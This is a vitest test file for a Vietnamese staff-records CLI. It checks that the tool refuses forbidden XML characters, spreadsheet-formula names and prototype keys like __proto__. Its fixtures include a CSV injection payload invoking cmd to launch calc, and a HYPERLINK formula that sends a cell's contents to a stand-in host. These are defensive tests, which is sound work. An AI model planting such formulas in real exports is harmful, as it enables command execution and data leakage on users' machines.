/**
 * Issue 14, "Text that can never break a document or a spreadsheet": characters XML forbids or that
 * are not characters are refused in every text field and import; names starting as formulas are
 * refused; CSV output never carries a live formula; data is never read as a template; look-ups of
 * typed words never reach an object's own properties (`__proto__`).
 */
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { schoolDb } from '../helpers/cli.js';
import { count } from '../helpers/db.js';

/** What Word cannot open (XML 1.0 forbids it) or what is not a character at all. */
const NOT_CHARACTERS = ['\uffff', '\ufffe', 'An\ud800', '\udc00An', '\ufdd0', '\u{1fffe}', '\u{10ffff}', 'Nguy\ufffdn'];

describe('characters no document can hold', () => {
  it('are refused (exit 3) in names, free text and attestations, and nothing is written', async () => {
    const { cli, db } = await schoolDb();
    const audit = count(db, 'audit');
    for (const bad of NOT_CHARACTERS) {
      const tries = [
        ['person', 'add', 'VC050', '--name', `Lê Văn ${bad}`, '--unit', 'KLLCS', '--category', 'staff'],
        ['person', 'edit', 'VC002', '--position', `Giảng viên ${bad}`],
        ['unit', 'add', 'KMOI', '--name', `Khoa ${bad}`, '--kind', 'faculty'],
        ['achieve', 'add', 'VC002', '--date', '2026-11-01', '--kind', 'task', '--text', `Giải ${bad}`],
      ];
      for (const argv of tries) {
        const r = await cli(argv);
        expect(r.code, `${argv.join(' ')} ${JSON.stringify(bad)}: ${r.stderr}`).toBe(3);
        expect(r.stderr).toMatch(/không hợp lệ mà văn bản Word không chứa được/);
      }
    }
    expect(count(db, 'audit')).toBe(audit);
  });

  it('are refused in an imported staff list, every bad line named', async () => {
    const { cli, dir, db } = await schoolDb();
    const file = join(dir, 'ds.csv');
    writeFileSync(file, `Mã,Họ và tên,Đơn vị,Loại\nVC050,Lê Văn \uffff,KLLCS,staff\nVC051,Trần \ufdd0 Bình,KLLCS,staff\nVC052,Võ Thị Cúc,KLLCS,staff\n`);
    const r = await cli(['person', 'import', file]);
    expect(r.code, r.stderr).toBe(3);
    expect(r.stderr).toMatch(/dòng 2/);
    expect(r.stderr).toMatch(/dòng 3/);
    expect(count(db, 'people')).toBe(3);
  });
});

describe('names that start as a spreadsheet formula', () => {
  it('are refused (exit 3) typed or imported', async () => {
    const { cli, dir, db } = await schoolDb();
    for (const name of ['=HYPERLINK("http://x.example/?"&A1,"Bấm")', '+84 Lê', '-1+2', '@SUM(A1:A9)']) {
      const add = await cli(['person', 'add', 'VC050', '--name', name, '--unit', 'KLLCS', '--category', 'staff']);
      expect(add.code, add.stderr).toBe(3);
      expect(add.stderr).toMatch(/như một công thức bảng tính/);
      const unit = await cli(['unit', 'add', 'KMOI', '--name', name, '--kind', 'faculty']);
      expect(unit.code, unit.stderr).toBe(3);
    }
    const file = join(dir, 'ds.csv');
    writeFileSync(file, 'Mã,Họ và tên,Đơn vị,Loại\nVC050,"=cmd|\' /C calc\'!A0",KLLCS,staff\nVC051,Võ Thị Cúc,KLLCS,staff\n');
    const r = await cli(['person', 'import', file]);
    expect(r.code, r.stderr).toBe(3);
    expect(r.stderr).toMatch(/dòng 2: .*công thức/);
    expect(count(db, 'people')).toBe(3);
  });
});

describe('typed words that are names of every object', () => {
  it('rules set __proto__, constructor, toString: exit 3 naming the key, never an internal error', async () => {
    const { cli } = await schoolDb();
    for (const key of ['__proto__', 'constructor', 'toString', 'hasOwnProperty']) {
      const r = await cli(['rules', 'set', key, '2', '--from', '2026-01-01', '--source', 'Quy chế']);
      expect(r.code, `${key}: ${r.stderr}`).toBe(3);
    }
    for (const [argv, code] of [
      [['person', 'add', 'VC050', '--name', 'Lê An', '--unit', 'KLLCS', '--category', '__proto__'], 3],
      [['person', 'list', '--category', 'constructor'], 3],
      [['unit', 'add', 'KMOI', '--name', 'Khoa Mới', '--kind', 'toString'], 3],
    ] as const) {
      const r = await cli([...argv]);
      expect(r.code, `${argv.join(' ')}: ${r.stderr}`).toBe(code);
    }
  });
});
